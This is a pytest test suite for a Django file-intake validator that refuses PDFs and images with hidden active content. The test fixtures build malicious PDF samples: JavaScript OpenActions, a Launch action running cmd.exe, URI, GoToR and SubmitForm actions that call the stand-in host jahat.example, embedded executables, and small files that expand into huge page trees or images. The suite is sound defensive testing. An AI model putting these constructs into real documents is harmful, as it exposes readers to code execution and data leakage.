"""Papers of strangers: what opens and does nothing is kept, everything else is told clearly."""

from __future__ import annotations

import io
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from PIL import Image, ImageFile
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pytest_django import Settings

from lpse.errors import Refused
from lpse.files.intake import store
from lpse.files.models import FileKind, StoredFile
from lpse.files.storage import storage
from tests.factories.applying import a_pdf

pytestmark = pytest.mark.django_db

KINDS = (FileKind.PDF, FileKind.JPEG, FileKind.PNG)
NOT_OPEN = "does not open"
# What somebody might hide in a copy of a deed, and what the applicant is told.
MALICIOUS = {
    "a program of the document": (
        a_pdf("<</S/JavaScript/JS(app.alert(1))>>", catalogue="/OpenAction 4 0 R"),
        "program",
    ),
    "a program that the catalogue hides": (
        a_pdf(catalogue="/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        "program",
    ),
    "a program that nothing points to": (a_pdf("<</S/JavaScript/JS(app.alert(1))>>"), "program"),
    "a program under an escaped name": (a_pdf("<</S/Java#53cript/J#53(1)>>"), "program"),
    "a program on a page": (
        a_pdf(
            "<</S/JavaScript/JS(1)>>",
            page="<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O 4 0 R>>>>",
        ),
        "program",
    ),
    "a command": (
        a_pdf("<</S/Launch/F(cmd.exe)>>", catalogue="/OpenAction 4 0 R"),
        "starts something",
    ),
    "a command whose name stands elsewhere": (
        a_pdf("<</S 5 0 R/F(cmd.exe)>>", "/Launch", catalogue="/OpenAction 4 0 R"),
        "starts something",
    ),
    "a file of another computer": (
        a_pdf(r"<</S/GoToR/F(\\\\jahat.example\\a.pdf)>>"),
        "starts something",
    ),
    "an address that is called when it is opened": (
        a_pdf(catalogue="/OpenAction<</S/URI/URI(https://jahat.example)>>"),
        "starts something",
    ),
    "an address that is called later": (
        a_pdf(
            "<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>",
            "<</S 6 0 R/URI(https://jahat.example)>>",
            "/URI",
            catalogue="/OpenAction 4 0 R",
        ),
        "starts something",
    ),
    "an address that is called on a page": (
        a_pdf(
            "<</O 5 0 R>>",
            "<</S/URI/URI(https://jahat.example)>>",
            page="<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA 4 0 R>>",
        ),
        "starts something",
    ),
    "a form that is sent": (
        a_pdf("<</S/SubmitForm/F(http://jahat.example)>>"),
        "starts something",
    ),
    "another file": (
        a_pdf("<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", "<</Type/EmbeddedFile>>"),
        "other files inside",
    ),
    "a film": (a_pdf("<</Subtype/RichMedia>>"), "other files inside"),
    "a form that is a program": (a_pdf(catalogue="/AcroForm<</XFA[]>>"), "XFA"),
}
BROKEN = {
    "cut off in the middle": a_pdf()[:200] + b"\n%%EOF\n",
    "without a table": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "with a page that is not there": a_pdf(page="<</Type/Catalog>>").replace(
        b"/Kids[3 0 R]", b"/Kids[9 0 R]"
    ),
    "nested without end": a_pdf("[" * 5000 + "]" * 5000),
    "with actions that never end": a_pdf(
        "<</S/GoTo/Next[4 0 R 4 0 R]>>", catalogue="/OpenAction 4 0 R"
    ),
    "only its first line": b"%PDF-1.7\n%%EOF\n",
}


def kept(content: bytes, **more: Any) -> StoredFile:
    return store(
        io.BytesIO(content), **{"max_size": 2_000_000, "kinds": KINDS, "strict": True, **more}
    )


def refusal(content: bytes, **more: Any) -> str:
    with pytest.raises(Refused) as refused:
        kept(content, **more)
    assert not StoredFile.objects.exists()
    assert [path for path in storage().scratch.iterdir() if path.is_file()] == []
    return str(refused.value)


def a_picture(kind: str) -> bytes:
    content = io.BytesIO()
    Image.effect_noise((320, 200), 80).convert("RGB").save(content, kind)
    return content.getvalue()


@pytest.fixture(autouse=True)
def _in_english(settings: Settings) -> None:
    settings.LANGUAGE_CODE = "en"


@pytest.mark.parametrize("content", [a_pdf(), a_picture("JPEG"), a_picture("PNG")])
def test_a_paper_that_opens_is_kept(content: bytes) -> None:
    assert storage().read(kept(content).name) == content


def test_a_link_in_a_paper_is_no_program() -> None:
    link = "<</S/URI/URI(https://contoh.example)>>"

    assert kept(a_pdf(link, catalogue="/OpenAction[3 0 R/Fit]"))
    assert kept(a_pdf(link, catalogue="/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"))


@pytest.mark.parametrize("hidden", MALICIOUS)
def test_a_pdf_that_would_do_something_is_refused(hidden: str) -> None:
    content, why = MALICIOUS[hidden]

    assert why in refusal(content)


@pytest.mark.parametrize("fault", BROKEN)
def test_a_pdf_that_does_not_open_is_refused(fault: str) -> None:
    assert NOT_OPEN in refusal(BROKEN[fault])


def test_a_program_that_a_later_revision_replaced_is_found_too() -> None:
    first = a_pdf("<</S/JavaScript/JS(1)>>")
    start = first.index(b"xref\n")
    again = b"4 0 obj\n<</Just/Paper>>\nendobj\n"
    table = f"xref\n4 1\n{len(first):010} 00000 n \n".encode()
    end = f"trailer\n<</Size 5/Root 1 0 R/Prev {start}>>\nstartxref\n{len(first) + len(again)}\n"

    assert "program" in refusal(first + again + table + end.encode() + b"%%EOF\n")


def a_tree(depth: int, leaves: str) -> bytes:
    """Every node names the next one twice: a few kilobytes, and twice the pages per level."""
    nodes = [
        f"<</Type/Pages/Count {2 ** (depth - level)}/Kids[{level + 4} 0 R {level + 4} 0 R]>>"
        for level in range(depth)
    ]
    leaf = f"<</Type/Pages/Count 1/Kids[{leaves}]>>"
    return a_pdf(*nodes[1:], leaf, pages=nodes[0])


@contextmanager
def at_most(seconds: int) -> Iterator[None]:
    def give_up(*_signal: object) -> None:
        pytest.fail("it takes too long")

    before = signal.signal(signal.SIGALRM, give_up)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


@pytest.mark.parametrize(
    ("leaves", "why"), [("3 0 R", "has no page, or more than 500"), ("", NOT_OPEN)]
)
def test_a_small_pdf_of_pages_without_end_is_refused_at_once(leaves: str, why: str) -> None:
    content = a_tree(40, leaves)
    assert len(content) < 6000

    with at_most(seconds=10):
        assert why in refusal(content)


def test_a_locked_pdf_is_refused() -> None:
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(a_pdf())))
    writer.encrypt("rahasia")
    locked = io.BytesIO()
    writer.write(locked)

    assert "locked with a password" in refusal(locked.getvalue())


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_that_was_cut_off_is_refused(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # as WeasyPrint leaves it
    whole = a_picture(kind)

    assert "cut off" in refusal(whole[: len(whole) // 2])


def test_a_small_picture_of_too_many_pixels_is_not_unpacked() -> None:
    content = io.BytesIO()
    Image.new("1", (9000, 6000)).save(content, "PNG")
    assert content.tell() < 20_000

    assert "too many pixels" in refusal(content.getvalue())


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00" + b"\0" * 64,  # a program called ktp.pdf
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"%PDF-1.7 and no end",
    ],
)
def test_a_disguised_file_is_judged_by_its_content(content: bytes) -> None:
    assert "judged by its content" in refusal(content)


def test_a_file_that_is_too_large_is_refused_while_it_comes() -> None:
    assert "larger than" in refusal(a_pdf() + b" " * 5000, max_size=2000)


def test_only_who_asks_for_it_is_that_strict() -> None:
    assert kept(BROKEN["without a table"], strict=False)
